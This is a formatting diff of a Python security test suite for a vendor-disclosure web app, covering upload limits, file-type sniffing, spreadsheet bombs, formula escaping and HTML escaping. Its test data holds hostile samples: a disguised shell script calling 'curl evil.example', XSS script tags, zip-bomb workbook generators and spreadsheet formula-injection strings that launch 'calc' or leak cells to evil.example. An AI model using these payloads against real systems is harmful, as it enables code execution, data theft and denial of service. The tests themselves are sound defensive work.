@@ -76,15 +76,19 @@ def meter(app):
 
 def _counts() -> tuple[int, int, int]:
     db.session.commit()
-    return tuple(db.session.scalar(select(func.count()).select_from(model))
-                 for model in (Disclosure, Evidence, AuditEvent))
+    return tuple(
+        db.session.scalar(select(func.count()).select_from(model))
+        for model in (Disclosure, Evidence, AuditEvent)
+    )
 
 
 # ---------------------------------------------------------------------------- request size
 
 
 def test_the_request_size_limit_comes_from_the_setting(tmp_path):
-    assert flask_config(load_settings(tmp_path, environ={}), tmp_path)["MAX_CONTENT_LENGTH"] == 20 * MB
+    assert (
+        flask_config(load_settings(tmp_path, environ={}), tmp_path)["MAX_CONTENT_LENGTH"] == 20 * MB
+    )
     settings = load_settings(tmp_path, environ={"PROCURE_MAX_REQUEST_MB": "3"})
     assert flask_config(settings, tmp_path)["MAX_CONTENT_LENGTH"] == 3 * MB
 
@@ -96,16 +100,34 @@ def test_a_request_over_the_limit_answers_413_and_changes_nothing(app, walk_worl
     app.config["MAX_CONTENT_LENGTH"] = 1 * MB  # as max_request_mb = 1 sets it
     big_pdf = PDF + b"0" * (2 * MB)
     before = _counts()
-    api = w.call("vendor", "POST", f"/api/v1/disclosures/{draft['id']}/evidence",
-                 {"section": "wages", "level": "self_reported", "file": (io.BytesIO(big_pdf), "big.pdf")})
+    api = w.call(
+        "vendor",
+        "POST",
+        f"/api/v1/disclosures/{draft['id']}/evidence",
+        {"section": "wages", "level": "self_reported", "file": (io.BytesIO(big_pdf), "big.pdf")},
+    )
     assert api.status_code == 413 and api.is_json
-    assert api.json == {"code": 413, "status": "Request Entity Too Large", "message": api.json["message"]}
+    assert api.json == {
+        "code": 413,
+        "status": "Request Entity Too Large",
+        "message": api.json["message"],
+    }
     assert "too large" in api.json["message"].lower() or "exceeds" in api.json["message"].lower()
-    big_json = w.call("buyer", "POST", "/api/v1/needs", {"title": "x" * (2 * MB), "service_category": "seo"})
+    big_json = w.call(
+        "buyer", "POST", "/api/v1/needs", {"title": "x" * (2 * MB), "service_category": "seo"}
+    )
     assert big_json.status_code == 413 and big_json.json["code"] == 413
-    for path, body in ((f"/disclosures/{draft['id']}/evidence",
-                        {"section": "wages", "level": "self_reported", "file": (io.BytesIO(big_pdf), "big.pdf")}),
-                       ("/vendor/disclosures", {"period_start": "2001-01-01", "period_end": "x" * (2 * MB)})):
+    for path, body in (
+        (
+            f"/disclosures/{draft['id']}/evidence",
+            {
+                "section": "wages",
+                "level": "self_reported",
+                "file": (io.BytesIO(big_pdf), "big.pdf"),
+            },
+        ),
+        ("/vendor/disclosures", {"period_start": "2001-01-01", "period_end": "x" * (2 * MB)}),
+    ):
         page = w.call("vendor", "POST", path, body)
         assert page.status_code == 413 and page.mimetype == "text/html", path
         assert "<!doctype html>" in page.text and "413" in page.text
@@ -115,15 +137,25 @@ def test_a_request_over_the_limit_answers_413_and_changes_nothing(app, walk_worl
 # ---------------------------------------------------------------------------- uploads by content
 
 DISGUISED = {
-    "an HTML page named .pdf": ("payroll.pdf", b"<!doctype html><html><script>alert(1)</script></html>"),
-    "a Windows program named .pdf": ("payroll.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 64),
+    "an HTML page named .pdf": (
+        "payroll.pdf",
+        b"<!doctype html><html><script>alert(1)</script></html>",
+    ),
+    "a Windows program named .pdf": (
+        "payroll.pdf",
+        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 64,
+    ),
     "a Linux program named .png": ("chart.png", b"\x7fELF\x02\x01\x01\x00" + b"\0" * 64),
-    "an SVG with a script named .png": ("chart.png",
-                                        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+    "an SVG with a script named .png": (
+        "chart.png",
+        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+    ),
     "a PDF named .jpg": ("photo.jpg", PDF),
     "a ZIP of other files named .xlsx": ("table.xlsx", None),
-    "an HTML page named .csv": ("table.csv",
-                                b"<html><body><p>headcount, wages</p><script>a(1,2)</script></body></html>"),
+    "an HTML page named .csv": (
+        "table.csv",
+        b"<html><body><p>headcount, wages</p><script>a(1,2)</script></body></html>",
+    ),
     "a shell script named .csv": ("table.csv", b"#!/bin/sh\necho a,b\ncurl evil.example,x\n"),
 }
 
@@ -149,9 +181,15 @@ def test_an_upload_is_judged_by_its_content(app, walk_world, kind):
     assert api.status_code == 422, api.json
     extension = name.rsplit(".", 1)[1]
     assert list(api.json["errors"]) == ["file"]
-    assert api.json["errors"]["file"][0].startswith(f"The file is named .{extension} but its content is")
-    page = w.call("vendor", "POST", f"/disclosures/{draft['id']}/evidence",
-                  {**upload, "file": (io.BytesIO(content), name)})
+    assert api.json["errors"]["file"][0].startswith(
+        f"The file is named .{extension} but its content is"
+    )
+    page = w.call(
+        "vendor",
+        "POST",
+        f"/disclosures/{draft['id']}/evidence",
+        {**upload, "file": (io.BytesIO(content), name)},
+    )
     assert page.status_code == 422
     assert str(escape(api.json["errors"]["file"][0])) in page.text
     assert _counts() == before
@@ -162,12 +200,20 @@ def test_genuine_files_of_every_type_are_accepted(app, walk_world):
     w = walk_world
     draft = w.draft()
     table = write_table([{"a": 1, "b": "x"}], ["a", "b"], "xlsx")
-    files = {"payroll.pdf": PDF, "chart.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 32,
-             "photo.jpeg": b"\xff\xd8\xff\xe0" + b"\0" * 32,
-             "roster.csv": b"name,hours\nA,40\n", "roster.xlsx": table}
+    files = {
+        "payroll.pdf": PDF,
+        "chart.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 32,
+        "photo.jpeg": b"\xff\xd8\xff\xe0" + b"\0" * 32,
+        "roster.csv": b"name,hours\nA,40\n",
+        "roster.xlsx": table,
+    }
     for name, content in files.items():
-        response = w.call("vendor", "POST", f"/api/v1/disclosures/{draft['id']}/evidence",
-                          {"section": "wages", "level": "self_reported", "file": (io.BytesIO(content), name)})
+        response = w.call(
+            "vendor",
+            "POST",
+            f"/api/v1/disclosures/{draft['id']}/evidence",
+            {"section": "wages", "level": "self_reported", "file": (io.BytesIO(content), name)},
+        )
         assert response.status_code == 201, (name, response.json)
 
 
@@ -190,19 +236,27 @@ def _workbook(write_sheet, shared_text: bytes | None = None) -> bytes:
         for member in template.infolist():
             if member.filename == "xl/worksheets/sheet1.xml":
                 with archive.open(member.filename, "w") as stream:
-                    stream.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
-                                 b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+                    stream.write(
+                        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
+                        b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+                    )
                     write_sheet(stream)
                     stream.write(b"</sheetData></worksheet>")
             else:
                 part = template.read(member.filename)
                 if shared_text is not None:  # declared where openpyxl looks for it
-                    part = part.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType='
-                                        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.'
-                                        b'sharedStrings+xml"/></Types>')
-                    part = part.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxml'
-                                        b'formats.org/officeDocument/2006/relationships/sharedStrings" '
-                                        b'Target="sharedStrings.xml"/></Relationships>')
+                    part = part.replace(
+                        b"</Types>",
+                        b'<Override PartName="/xl/sharedStrings.xml" ContentType='
+                        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.'
+                        b'sharedStrings+xml"/></Types>',
+                    )
+                    part = part.replace(
+                        b"</Relationships>",
+                        b'<Relationship Id="rId99" Type="http://schemas.openxml'
+                        b'formats.org/officeDocument/2006/relationships/sharedStrings" '
+                        b'Target="sharedStrings.xml"/></Relationships>',
+                    )
                 archive.writestr(member.filename, part)
         if shared_text is not None:
             archive.writestr("xl/sharedStrings.xml", shared_text)
@@ -210,22 +264,31 @@ def _workbook(write_sheet, shared_text: bytes | None = None) -> bytes:
 
 
 def _header_row(stream) -> None:
-    cells = b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % column.encode() for column in FLAT_COLUMNS)
+    cells = b"".join(
+        b'<c t="inlineStr"><is><t>%s</t></is></c>' % column.encode() for column in FLAT_COLUMNS
+    )
     stream.write(b'<row r="1">' + cells + b"</row>")
 
 
 def million_row_xlsx() -> bytes:
     """1,000,000 rows of one number each: 60 MB of sheet XML in a 5 MB file."""
+
     def rows(stream):
         _header_row(stream)
         for start in range(2, 1_000_002, 10_000):
-            stream.write(b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i)
-                                  for i in range(start, start + 10_000)))
+            stream.write(
+                b"".join(
+                    b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i)
+                    for i in range(start, start + 10_000)
+                )
+            )
+
     return _workbook(rows)
 
 
 def zip_bomb_xlsx() -> bytes:
     """One cell of 1 GB of text, compressed to about 1 MB: unpacking it is the attack."""
+
     def rows(stream):
         _header_row(stream)
         stream.write(b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
@@ -233,6 +296,7 @@ def zip_bomb_xlsx() -> bytes:
         for _ in range(1024):
             stream.write(chunk)
         stream.write(b"</t></is></c></row>")
+
     return _workbook(rows)
 
 
@@ -240,9 +304,13 @@ def shared_text_bomb_xlsx() -> bytes:
     """Two rows, but 1,500,000 different shared texts (28 MB unpacked, 4 MB zipped) that openpyxl
     would hold in memory whole."""
     count = 1_500_000
-    shared = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
-              b'spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (count, count)
-              + b"".join(b"<si><t>%d</t></si>" % i for i in range(count)) + b"</sst>")
+    shared = (
+        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
+        b'spreadsheetml/2006/main" count="%d" uniqueCount="%d">'
+        % (count, count)
+        + b"".join(b"<si><t>%d</t></si>" % i for i in range(count))
+        + b"</sst>"
+    )
     return _workbook(_header_row, shared_text=shared)
 
 
@@ -253,11 +321,21 @@ def wide_csv() -> bytes:
 
 HUGE_TABLES = {
     "a CSV of 1,000,000 rows": (million_row_csv, "rows.csv", f"more than {MAX_IMPORT_ROWS:,} rows"),
-    "an XLSX of 1,000,000 rows": (million_row_xlsx, "rows.xlsx", f"more than {MAX_IMPORT_ROWS:,} rows"),
-    "an XLSX that unpacks to 1 GB": (zip_bomb_xlsx, "bomb.xlsx",
-                                     f"the limit is {MAX_XLSX_UNPACKED_BYTES // MB} MB"),
-    "an XLSX of 1.5 million shared texts": (shared_text_bomb_xlsx, "text.xlsx",
-                                            f"the limit is {MAX_XLSX_SHARED_TEXT_BYTES // MB} MB"),
+    "an XLSX of 1,000,000 rows": (
+        million_row_xlsx,
+        "rows.xlsx",
+        f"more than {MAX_IMPORT_ROWS:,} rows",
+    ),
+    "an XLSX that unpacks to 1 GB": (
+        zip_bomb_xlsx,
+        "bomb.xlsx",
+        f"the limit is {MAX_XLSX_UNPACKED_BYTES // MB} MB",
+    ),
+    "an XLSX of 1.5 million shared texts": (
+        shared_text_bomb_xlsx,
+        "text.xlsx",
+        f"the limit is {MAX_XLSX_SHARED_TEXT_BYTES // MB} MB",
+    ),
     "a CSV of 1,000,000 columns": (wide_csv, "wide.csv", f"at most {MAX_COLUMNS}"),
 }
 # Peak memory of one refused import, in MB, whatever the file. Measured: the Python heap peaks at
@@ -276,7 +354,9 @@ def test_a_huge_table_is_refused_with_its_limit_in_bounded_memory(app, walk_worl
     assert len(content) < 20 * MB  # under the request limit: the table limits must catch it
     w.call("vendor", "GET", "/disclosures/table")  # templates and imports loaded before measuring
     before = _counts()
-    api = w.call("vendor", "POST", "/api/v1/disclosures/import", {"file": (io.BytesIO(content), name)})
+    api = w.call(
+        "vendor", "POST", "/api/v1/disclosures/import", {"file": (io.BytesIO(content), name)}
+    )
     assert api.status_code == 422, api.text[:300]
     assert list(api.json["errors"]) == ["file"] and limit in api.json["errors"]["file"][0], api.json
     figures = f"{kind} ({len(content) / MB:.1f} MB): peak RSS +{meter.rss_mb:.0f} MB, heap {meter.heap_mb:.0f} MB"
@@ -292,8 +372,11 @@ def test_sheet_rows_and_cells_are_counted_with_or_without_prefixes_across_chunks
     from procure.spreadsheets import _refuse_large_sheet
 
     def sheet(rows: int, cells: int, prefix: bytes = b"") -> io.BytesIO:
-        row = b"<%srow r=\"1\">" % prefix + b"<%sc r=\"A1\"><%sv>1</%sv></%sc>" % ((prefix,) * 4) * cells \
+        row = (
+            b'<%srow r="1">' % prefix
+            + b'<%sc r="A1"><%sv>1</%sv></%sc>' % ((prefix,) * 4) * cells
             + b"</%srow>" % prefix
+        )
         padding = b" " * (MB - 7)  # puts tags across the chunk boundary
         return io.BytesIO(padding + row * rows)
 
@@ -308,7 +391,9 @@ def test_sheet_rows_and_cells_are_counted_with_or_without_prefixes_across_chunks
 def test_the_csv_header_is_counted_by_its_cells_in_constant_memory():
     from procure.spreadsheets import _refuse_wide_csv
 
-    quoted_commas = b",".join(b'"a,%d"' % i for i in range(MAX_COLUMNS)) + b"\n"  # 200 cells, 400 commas
+    quoted_commas = (
+        b",".join(b'"a,%d"' % i for i in range(MAX_COLUMNS)) + b"\n"
+    )  # 200 cells, 400 commas
     _refuse_wide_csv(quoted_commas)
     with pytest.raises(TableReadError, match=f"more than {MAX_COLUMNS} columns"):
         _refuse_wide_csv(quoted_commas.rstrip() + b',"x ""y"""\n')
@@ -362,14 +447,20 @@ def test_only_the_sheet_that_is_read_counts_towards_the_row_limit():
 
     small_then_long = _workbook_of_sheets(("Table", 2), ("Lookup", 10))
     _refuse_large_workbook(small_then_long, max_rows=3)
-    assert read_table(small_then_long, "t.xlsx", max_rows=3) == [{"vendor_id": "Table 0"}, {"vendor_id": "Table 1"}]
+    assert read_table(small_then_long, "t.xlsx", max_rows=3) == [
+        {"vendor_id": "Table 0"},
+        {"vendor_id": "Table 1"},
+    ]
     long_then_small = _workbook_of_sheets(("Lookup", 10), ("Table", 2))
     with pytest.raises(TableReadError, match="more than 3 rows"):
         _refuse_large_workbook(long_then_small, max_rows=3)
     # the long list is member sheet1.xml but listed second: the table (sheet2.xml) is read, and counted
     listed_first = _workbook_of_sheets(("Lookup", 10), ("Table", 2), listed_in_reverse=True)
     _refuse_large_workbook(listed_first, max_rows=3)
-    assert read_table(listed_first, "t.xlsx", max_rows=3) == [{"vendor_id": "Table 0"}, {"vendor_id": "Table 1"}]
+    assert read_table(listed_first, "t.xlsx", max_rows=3) == [
+        {"vendor_id": "Table 0"},
+        {"vendor_id": "Table 1"},
+    ]
     listed_second = _workbook_of_sheets(("Table", 2), ("Lookup", 10), listed_in_reverse=True)
     with pytest.raises(TableReadError, match="more than 3 rows"):
         _refuse_large_workbook(listed_second, max_rows=3)
@@ -391,12 +482,14 @@ def test_score_refuses_a_million_vendors_in_bounded_memory(tmp_path, monkeypatch
     result = run_cli(["score", str(path)], tmp_path, monkeypatch)
     rss = _status_mb("VmHWM") - start
     assert result.exit_code == 2
-    assert result.output.strip().endswith(f"{path}: row 100002: the file has more than 100,000 vendors; "
-                                          "score it in parts")
+    assert result.output.strip().endswith(
+        f"{path}: row 100002: the file has more than 100,000 vendors; score it in parts"
+    )
     assert rss < 200, f"peak RSS +{rss:.0f} MB"
 
 
 # ---------------------------------------------------------------------------- names in records
+
 
 def named_world(w: World, names: dict[str, str]) -> dict:
     """Records of every kind whose user-written texts are `names[kind]`: the vendor's profile and
@@ -405,49 +498,107 @@ def named_world(w: World, names: dict[str, str]) -> dict:
     with that profile, the buyer organization and the approving executive, a rejected
     disclosure's review comment and an API token. Returns the ids."""
     vendor = w.api("vendor", "GET", f"/api/v1/vendors/{w.vendor.id}")
-    w.api("vendor", "PATCH", f"/api/v1/vendors/{w.vendor.id}", json={
-        "name": names["vendor"], "version": vendor["version"],
-        "sites": [{"name": names["site"], "city": "Nairobi", "country": "KE"}]})
+    w.api(
+        "vendor",
+        "PATCH",
+        f"/api/v1/vendors/{w.vendor.id}",
+        json={
+            "name": names["vendor"],
+            "version": vendor["version"],
+            "sites": [{"name": names["site"], "city": "Nairobi", "country": "KE"}],
+        },
+    )
     document = valid_document("2025-01-01", "2025-12-31")
-    document["wages"][0].update(site=names["site"], minimum_wage_source=names["source"],
-                                living_wage_source=names["source"])
+    document["wages"][0].update(
+        site=names["site"], minimum_wage_source=names["source"], living_wage_source=names["source"]
+    )
     document["workforce"]["categories"]["other"] = 1
     document["workforce"]["categories"]["youth_neet"] -= 1
     document["workforce"]["other_category_label"] = names["category"]
     latest = w.api("vendor", "GET", "/api/v1/disclosures?state=submitted")[0]
     amended = w.api("vendor", "POST", f"/api/v1/disclosures/{latest['id']}/amend")
-    w.api("vendor", "PATCH", f"/api/v1/disclosures/{amended['id']}",
-          json={"edit_version": amended["edit_version"], **{k: document[k] for k in ("workforce", "wages")}})
+    w.api(
+        "vendor",
+        "PATCH",
+        f"/api/v1/disclosures/{amended['id']}",
+        json={
+            "edit_version": amended["edit_version"],
+            **{k: document[k] for k in ("workforce", "wages")},
+        },
+    )
     disclosure = w.api("vendor", "POST", f"/api/v1/disclosures/{amended['id']}/submit")
     rejected = w.submitted_disclosure()
-    w.api("buyer", "POST", f"/api/v1/disclosures/{rejected['id']}/review",
-          json={"decision": "rejected", "comment": names["comment"]})
+    w.api(
+        "buyer",
+        "POST",
+        f"/api/v1/disclosures/{rejected['id']}/review",
+        json={"decision": "rejected", "comment": names["comment"]},
+    )
     need = w.api("buyer", "POST", "/api/v1/needs", json={**WALK_NEED, "title": names["need"]})
-    metric = w.api("buyer", "POST", "/api/v1/metrics",
-                   json=metric_body("named_metric", label=names["metric"], source=names["source"]))
+    metric = w.api(
+        "buyer",
+        "POST",
+        "/api/v1/metrics",
+        json=metric_body("named_metric", label=names["metric"], source=names["source"]),
+    )
     settings = default_settings()
     settings["metric_weights"] = {**settings["metric_weights"], "named_metric": 0.05}
     settings["metric_weights"]["impact_worker_share"] -= 0.05
-    profile = w.api("buyer", "POST", "/api/v1/scoring-profiles", json={"name": names["profile"], "settings": settings})
+    profile = w.api(
+        "buyer",
+        "POST",
+        "/api/v1/scoring-profiles",
+        json={"name": names["profile"], "settings": settings},
+    )
     buyer, executive = w.users["buyer"], w.users["executive"]
     buyer.organization.name, executive.name = names["organization"], names["person"]
     db.session.commit()
-    scenarios = [w.api("buyer", "POST", "/api/v1/scenarios", json={
-        "name": name, "need_ids": [need["id"]], "profile_id": profile["id"]})
-        for name in (names["scenario"], "Plain plan")]
+    scenarios = [
+        w.api(
+            "buyer",
+            "POST",
+            "/api/v1/scenarios",
+            json={"name": name, "need_ids": [need["id"]], "profile_id": profile["id"]},
+        )
+        for name in (names["scenario"], "Plain plan")
+    ]
     scenario = scenarios[0]
     w.api("buyer", "POST", f"/api/v1/scenarios/{scenario['id']}/submit")
-    w.api("executive", "POST", f"/api/v1/scenarios/{scenario['id']}/decision",
-          json={"decision": "approved", "comment": names["decision"]})
+    w.api(
+        "executive",
+        "POST",
+        f"/api/v1/scenarios/{scenario['id']}/decision",
+        json={"decision": "approved", "comment": names["decision"]},
+    )
     w.call("vendor", "POST", "/account", {"name": names["token"]})
-    return {"vendor_id": w.vendor.id, "disclosure_id": disclosure["id"], "rejected_id": rejected["id"],
-            "need_id": need["id"],
-            "profile_id": profile["id"], "scenario_id": scenario["id"], "other_scenario_id": scenarios[1]["id"],
-            "metric_id": metric["id"], "user_id": executive.id}
+    return {
+        "vendor_id": w.vendor.id,
+        "disclosure_id": disclosure["id"],
+        "rejected_id": rejected["id"],
+        "need_id": need["id"],
+        "profile_id": profile["id"],
+        "scenario_id": scenario["id"],
+        "other_scenario_id": scenarios[1]["id"],
+        "metric_id": metric["id"],
+        "user_id": executive.id,
+    }
 
 
-KINDS = ("vendor", "site", "source", "category", "comment", "need", "metric", "profile", "organization", "person",
-         "scenario", "decision", "token")
+KINDS = (
+    "vendor",
+    "site",
+    "source",
+    "category",
+    "comment",
+    "need",
+    "metric",
+    "profile",
+    "organization",
+    "person",
+    "scenario",
+    "decision",
+    "token",
+)
 
 
 # ---------------------------------------------------------------------------- formula escaping
@@ -457,20 +608,36 @@ FORMULA_STARTS = ("=", "+", "-", "@")
 
 def formula_names() -> dict[str, str]:
     """A text for every kind of record, starting with each of = + - @ in turn."""
-    bodies = ('HYPERLINK("http://evil.example/?q="&A1,"Click")', "cmd|' /C calc'!A0", "2+3+cmd|' /C notepad'!A0",
-              "SUM(1+1)*cmd|' /C calc'!A0")
+    bodies = (
+        'HYPERLINK("http://evil.example/?q="&A1,"Click")',
+        "cmd|' /C calc'!A0",
+        "2+3+cmd|' /C notepad'!A0",
+        "SUM(1+1)*cmd|' /C calc'!A0",
+    )
     return {kind: f"{FORMULA_STARTS[i % 4]}{bodies[i % 4]} {kind}" for i, kind in enumerate(KINDS)}
 
 
 def _xlsx_cells(content: bytes) -> list[tuple[str, object]]:
     book = load_workbook(io.BytesIO(content))  # formulas as written, not their cached values
-    return [(f"{sheet.title}!{cell.coordinate}", "=formula " + str(cell.value) if cell.data_type == "f" else cell.value)
-            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    return [
+        (
+            f"{sheet.title}!{cell.coordinate}",
+            "=formula " + str(cell.value) if cell.data_type == "f" else cell.value,
+        )
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
 
 
 def _csv_cells(content: bytes) -> list[tuple[str, object]]:
     rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
-    return [(f"row {r} column {c}", value) for r, row in enumerate(rows, 1) for c, value in enumerate(row, 1)]
+    return [
+        (f"row {r} column {c}", value)
+        for r, row in enumerate(rows, 1)
+        for c, value in enumerate(row, 1)
+    ]
 
 
 def _would_run(value: object) -> bool:
@@ -484,14 +651,19 @@ def _would_run(value: object) -> bool:
     return False
 
 
-def test_every_export_escapes_cells_that_would_run_as_formulas(app, walk_world, tmp_path, monkeypatch):
+def test_every_export_escapes_cells_that_would_run_as_formulas(
+    app, walk_world, tmp_path, monkeypatch
+):
     w = walk_world
     names = formula_names()
     ids = named_world(w, names)
     exports = {
         "scenario XLSX pack": ("buyer", f"/api/v1/scenarios/{ids['scenario_id']}/export.xlsx"),
         "disclosure table CSV (API)": ("buyer", "/api/v1/disclosures/export?format=csv"),
-        "disclosure table XLSX (API)": ("vendor", "/api/v1/disclosures/export?format=xlsx&latest_period=true"),
+        "disclosure table XLSX (API)": (
+            "vendor",
+            "/api/v1/disclosures/export?format=xlsx&latest_period=true",
+        ),
         "disclosure table CSV (page)": ("vendor", "/disclosures/table/export.csv"),
         "disclosure table XLSX (page)": ("buyer", "/disclosures/table/export.xlsx?latest_period=1"),
     }
@@ -501,23 +673,44 @@ def test_every_export_escapes_cells_that_would_run_as_formulas(app, walk_world, 
         assert response.status_code == 200, (label, response.text[:200])
         cells = _xlsx_cells(response.data) if "XLSX" in label else _csv_cells(response.data)
         running += [f"{label} {where}: {value!r}" for where, value in cells if _would_run(value)]
-        reached |= {kind for kind, name in names.items() for _, value in cells if isinstance(value, str)
-                    and name in value}
+        reached |= {
+            kind
+            for kind, name in names.items()
+            for _, value in cells
+            if isinstance(value, str) and name in value
+        }
     # `procure score`: the vendor ids are the file's own text
     ids_in_file = [f"{start}V{i}" for i, start in enumerate(FORMULA_STARTS)]
     lines = GOLDEN_VENDORS.read_text().splitlines()
     vendors = tmp_path / "vendors.csv"
-    vendors.write_text("\n".join([lines[0]] + [f"{id_},{line.split(',', 1)[1]}"
-                                                for id_, line in zip(ids_in_file, lines[1:])]) + "\n")
-    scored = run_cli(["score", str(vendors), "-o", str(tmp_path / "scores.csv")], tmp_path, monkeypatch)
+    vendors.write_text(
+        "\n".join(
+            [lines[0]]
+            + [f"{id_},{line.split(',', 1)[1]}" for id_, line in zip(ids_in_file, lines[1:])]
+        )
+        + "\n"
+    )
+    scored = run_cli(
+        ["score", str(vendors), "-o", str(tmp_path / "scores.csv")], tmp_path, monkeypatch
+    )
     assert scored.exit_code == 0, scored.output
     cells = _csv_cells((tmp_path / "scores.csv").read_bytes())
     running += [f"procure score {where}: {value!r}" for where, value in cells if _would_run(value)]
-    assert sorted(value for where, value in cells if where.endswith("column 1") and where != "row 1 column 1") \
-        == sorted("'" + id_ for id_ in ids_in_file)
+    assert sorted(
+        value for where, value in cells if where.endswith("column 1") and where != "row 1 column 1"
+    ) == sorted("'" + id_ for id_ in ids_in_file)
     assert running == [], f"{len(running)} cells would run as formulas:\n" + "\n".join(running)
     # the texts that reach the scenario pack did reach it (escaped), so the check above saw them
-    assert {"vendor", "need", "metric", "profile", "organization", "person", "scenario", "decision"} <= reached, reached
+    assert {
+        "vendor",
+        "need",
+        "metric",
+        "profile",
+        "organization",
+        "person",
+        "scenario",
+        "decision",
+    } <= reached, reached
 
 
 # ---------------------------------------------------------------------------- names holding HTML
@@ -528,7 +721,12 @@ def html_names() -> dict[str, str]:
 
 
 PAGE_ACTORS = ("vendor", "buyer", "executive", "admin")
-SKIPPED_PAGES = {"/static/<path:filename>", "/healthz", "/disclosures/table/export.<fmt>", "/sign-in"}
+SKIPPED_PAGES = {
+    "/static/<path:filename>",
+    "/healthz",
+    "/disclosures/table/export.<fmt>",
+    "/sign-in",
+}
 # pages that must show a name (escaped), so the crawl is known to have looked at it
 SHOWN = {
     ("vendor", "/vendor/profile"): {"vendor", "site"},
@@ -573,7 +771,9 @@ def _page_urls(app, ids: dict) -> list[tuple[str, str]]:
 
 def _raw_html(text: str, names: dict[str, str]) -> list[str]:
     """The names found as markup: a script or bold tag of ours that the page would run or draw."""
-    return [kind for kind in names if f"<b>{kind}</b>" in text or f"<script>alert('{kind}')" in text]
+    return [
+        kind for kind in names if f"<b>{kind}</b>" in text or f"<script>alert('{kind}')" in text
+    ]
 
 
 def test_names_holding_html_are_shown_as_text_in_every_page(app, walk_world):
@@ -587,32 +787,64 @@ def test_names_holding_html_are_shown_as_text_in_every_page(app, walk_world):
             if response.status_code in (302, 403, 404):
                 continue  # not this actor's page (the access matrix checks who sees what)
             assert response.status_code == 200, (actor, url, response.status_code)
-            problems += [f"{actor} GET {url}: {kind} as markup" for kind in _raw_html(response.text, names)]
-            seen[(actor, rule)] = {kind for kind, name in names.items() if str(escape(name)) in response.text}
+            problems += [
+                f"{actor} GET {url}: {kind} as markup" for kind in _raw_html(response.text, names)
+            ]
+            seen[(actor, rule)] = {
+                kind for kind, name in names.items() if str(escape(name)) in response.text
+            }
     # pages drawn after a form is posted: previews, what-ifs, a form sent back with its errors, flashes
     posted = {
         ("buyer", f"/profiles/{ids['profile_id']}"): {"action": "preview"},
         ("buyer", "/profiles/preview"): {"profile_id": str(ids["profile_id"])},
         ("buyer", f"/vendors/{ids['vendor_id']}/scorecard"): {"impact_workers_end": "80"},
         ("vendor", "/scorecard"): {"impact_workers_end": "80"},
-        ("buyer", "/needs"): {"title": names["need"], "volume": "", "service_category": "data_annotation"},
-        ("vendor", "/vendor/profile"): {"name": names["vendor"], "country": "XX",
-                                        "sites[0].name": names["site"], "version": "0"},
+        ("buyer", "/needs"): {
+            "title": names["need"],
+            "volume": "",
+            "service_category": "data_annotation",
+        },
+        ("vendor", "/vendor/profile"): {
+            "name": names["vendor"],
+            "country": "XX",
+            "sites[0].name": names["site"],
+            "version": "0",
+        },
     }
     for (actor, url), form in posted.items():
         response = w.call(actor, "POST", url, form)
-        problems += [f"{actor} POST {url}: {kind} as markup" for kind in _raw_html(response.text, names)]
-        seen[(actor, "POST " + url)] = {kind for kind, name in names.items() if str(escape(name)) in response.text}
-    created = w.call("buyer", "POST", "/needs", {"title": names["need"], "volume": "10", "unit": "hour",
-                                                 "service_category": "data_annotation", "period_start": "2026-01-01",
-                                                 "period_end": "2026-06-30", "min_quality": "0.5",
-                                                 "max_vendor_share": "1"})
+        problems += [
+            f"{actor} POST {url}: {kind} as markup" for kind in _raw_html(response.text, names)
+        ]
+        seen[(actor, "POST " + url)] = {
+            kind for kind, name in names.items() if str(escape(name)) in response.text
+        }
+    created = w.call(
+        "buyer",
+        "POST",
+        "/needs",
+        {
+            "title": names["need"],
+            "volume": "10",
+            "unit": "hour",
+            "service_category": "data_annotation",
+            "period_start": "2026-01-01",
+            "period_end": "2026-06-30",
+            "min_quality": "0.5",
+            "max_vendor_share": "1",
+        },
+    )
     flashed = w.page_client("buyer")[0].get(created.headers["Location"])
-    problems += [f"flash after creating a need: {kind} as markup" for kind in _raw_html(flashed.text, names)]
+    problems += [
+        f"flash after creating a need: {kind} as markup" for kind in _raw_html(flashed.text, names)
+    ]
     assert problems == [], "\n".join(problems)
     assert "alert-success" in flashed.text and str(escape(names["need"])) in flashed.text
-    missing = {key: sorted(kinds - seen.get(key, set())) for key, kinds in SHOWN.items()
-               if kinds - seen.get(key, set())}
+    missing = {
+        key: sorted(kinds - seen.get(key, set()))
+        for key, kinds in SHOWN.items()
+        if kinds - seen.get(key, set())
+    }
     assert missing == {}, f"pages that should show these names (escaped) did not: {missing}"
     assert {"vendor", "profile"} <= seen[("buyer", f"POST /profiles/{ids['profile_id']}")]
 
@@ -627,8 +859,19 @@ def test_names_holding_html_are_literal_text_in_the_board_pdf(app, walk_world):
     job = w.api("buyer", "GET", f"/api/v1/jobs/{job['id']}")
     assert job["status"] == "succeeded", job
     pdf = w.call("buyer", "GET", job["file_url"]).data
-    text = "".join("".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).split())
+    text = "".join(
+        "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).split()
+    )
